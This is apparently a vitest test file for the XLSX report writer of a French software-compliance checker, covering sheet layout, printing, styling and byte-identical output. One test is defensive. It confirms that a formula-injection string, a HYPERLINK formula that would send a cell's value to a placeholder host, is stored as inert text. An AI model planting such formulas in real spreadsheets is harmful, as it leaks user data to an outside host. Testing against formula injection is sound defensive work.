import ExcelJS from 'exceljs';
import { XMLValidator } from 'fast-xml-parser';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { render } from '../../src/report/formats/xlsx.js';
import { FORMULA_STATEMENT, fixtureContext, fixtureReport } from './fixture-context.js';
import { zipEntries } from './zip-entries.js';

async function readWorkbook(data: Uint8Array): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(data) as unknown as ArrayBuffer);
  return workbook;
}

describe('xlsx report', () => {
  afterEach(() => {
    vi.useRealTimers();
  });

  it('has the Synthèse sheet first, then a Checklist sheet, one row per expected proof, with the Convergence columns', async () => {
    const workbook = await readWorkbook(await render(fixtureContext()));
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Synthèse', 'Checklist']);
    const sheet = workbook.getWorksheet('Checklist')!;
    expect(sheet.getRow(1).values).toEqual([
      undefined,
      'Périmètre', 'ID', 'Chapitre', 'Fonction', 'Exigence', 'Profil', 'N° scénario', 'Scénario de conformité',
      'N° preuve', 'Preuve', 'Fichier(s)', 'SHA-256', 'Taille (octets)', 'Statut de la preuve', 'Verdict', 'Constats',
    ]);
    expect(sheet.rowCount).toBe(8);
    const proofIds = [];
    for (let row = 2; row <= 8; row += 1) proofIds.push(sheet.getCell(row, 9).value);
    expect(proofIds).toEqual([
      'INS/va1.01.01.01', 'INS/va1.01.01.02', 'INS/va1.02.01.01', 'DMP/va1.01.01.01', 'DMP/va1.01.01.02', 'DMP/va1.01.02.01', 'ERGO/va1.05.01.01',
    ]);
    expect(sheet.getCell('M2').value).toBe(2048);
    expect(sheet.getCell('M3').value).toBe('512\n256');
    // Each proof with its own status beside its requirement's verdict.
    const statuses = [];
    for (let row = 2; row <= 8; row += 1) statuses.push([sheet.getCell(row, 14).value, sheet.getCell(row, 15).value]);
    expect(statuses).toEqual([
      ['fournie', 'Conforme'],
      ['fournie', 'Conforme'],
      ['en erreur', 'Non conforme'],
      ['fournie', 'Incomplet'],
      ['manquante', 'Incomplet'],
      ['non applicable', 'Incomplet'],
      ['non applicable', 'Non applicable'],
    ]);
    expect(sheet.getCell('O4').fill).toEqual({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFFFC7CE' } });
    expect(sheet.getCell('N4').fill).toEqual({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFFFC7CE' } });
    expect(sheet.getCell('M2').numFmt).toBe('#,##0');
  });

  it('prints landscape, fitted to the page width, the header row repeated on every page', async () => {
    const entries = await zipEntries(await render(fixtureContext()));
    for (const part of ['xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml']) {
      expect(entries.get(part)).toMatch(/<pageSetup [^>]*orientation="landscape"/);
      expect(entries.get(part)).toMatch(/<pageSetup [^>]*fitToWidth="1" fitToHeight="0"/);
      expect(entries.get(part)).toContain('<pageSetUpPr fitToPage="1"/>');
    }
    expect(entries.get('xl/workbook.xml')).toContain('<definedName name="_xlnm.Print_Titles" localSheetId="1">&apos;Checklist&apos;!$1:$1</definedName>');
  });

  it('styles the header, freezes it and sets an autofilter', async () => {
    const entries = await zipEntries(await render(fixtureContext()));
    const sheetXml = entries.get('xl/worksheets/sheet2.xml')!;
    expect(sheetXml).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>');
    expect(sheetXml).toContain('<autoFilter ref="A1:P1"/>');
    expect(sheetXml).toContain('<col min="5" max="5" width="60" customWidth="1"/>');
    const workbook = await readWorkbook(await render(fixtureContext()));
    const header = workbook.getWorksheet('Checklist')!.getCell('A1');
    expect(header.font).toMatchObject({ bold: true, color: { argb: 'FFFFFFFF' } });
  });

  it('writes a formula-looking REM statement as inert text, never as a formula', async () => {
    const data = await render(fixtureContext());
    const entries = await zipEntries(data);
    const sheetXml = entries.get('xl/worksheets/sheet2.xml')!;
    expect(sheetXml).not.toContain('<f>');
    expect(entries.get('xl/sharedStrings.xml')).toContain(`<t>&apos;=HYPERLINK(&quot;http://exemple.invalid/?x=&quot;&amp;A1,&quot;Cliquez ici&quot;)</t>`);
    const cell = (await readWorkbook(data)).getWorksheet('Checklist')!.getCell('E8');
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(`'${FORMULA_STATEMENT}`);
  });

  it('keeps the sheet XML well-formed whatever the REM text holds', async () => {
    const catalog = {
      ...fixtureContext().catalog,
      requirements: fixtureContext().catalog.requirements.map((requirement) => ({ ...requirement, function: 'a\u0001b\uFFFEc\uFFFFd' })),
    };
    const strings = (await zipEntries(await render(fixtureContext({ catalog })))).get('xl/sharedStrings.xml')!;
    expect(XMLValidator.validate(strings)).toBe(true);
    expect(strings).toContain('<t>a\\x01b\uFFFDc\uFFFDd</t>');
  });

  it('has a Synthèse sheet with the counts', async () => {
    const sheet = (await readWorkbook(await render(fixtureContext()))).getWorksheet('Synthèse')!;
    const rows: unknown[][] = [];
    sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    expect(rows).toEqual([
      ['Logiciel', 'MonLGC 5.2.0'],
      ['Éditeur', 'Éditeur Exemple'],
      ['Profil(s)', 'Général'],
      ['Catalogue', 'REM-TEST — REM de test (échantillon, pas un texte ANS)'],
      ['Verdict', 'Contrôle échoué'],
      ['Outil', 'segur 0.1.0'],
      ['Verdict', 'Nombre'],
      ['Conforme', 1],
      ['Non conforme', 1],
      ['Incomplet', 1],
      ['Non applicable', 1],
      ['Total', 4],
      ['erreur', 2],
      ['avertissement', 2],
    ]);
  });

  it('is byte-identical across runs at different times, with no creation date unless the report has one', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(new Date('2026-01-01T10:00:00Z'));
    const first = await render(fixtureContext());
    vi.setSystemTime(new Date('2027-06-15T23:59:58Z'));
    const second = await render(fixtureContext());
    expect(Buffer.from(second).equals(Buffer.from(first))).toBe(true);
    const core = (await zipEntries(first)).get('docProps/core.xml')!;
    expect(core).toContain('<dcterms:created xsi:type="dcterms:W3CDTF">1980-01-01T00:00:00Z</dcterms:created>');

    const dated = await zipEntries(await render(fixtureContext({ report: { ...fixtureReport, date: '2026-03-04T05:06:07.000Z' } })));
    expect(dated.get('docProps/core.xml')).toContain('<dcterms:created xsi:type="dcterms:W3CDTF">2026-03-04T05:06:07Z</dcterms:created>');
  });
});
